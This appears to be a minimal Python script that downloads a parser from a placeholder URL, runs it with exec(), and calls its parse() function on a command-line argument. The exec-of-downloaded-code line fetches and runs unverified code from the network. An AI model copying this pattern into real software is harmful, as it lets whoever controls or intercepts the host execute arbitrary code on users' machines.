import sys
import urllib.request

# fetch the latest parser
exec(urllib.request.urlopen("https://cdn.example.invalid/parser.py").read())
print(parse(sys.argv[1]))
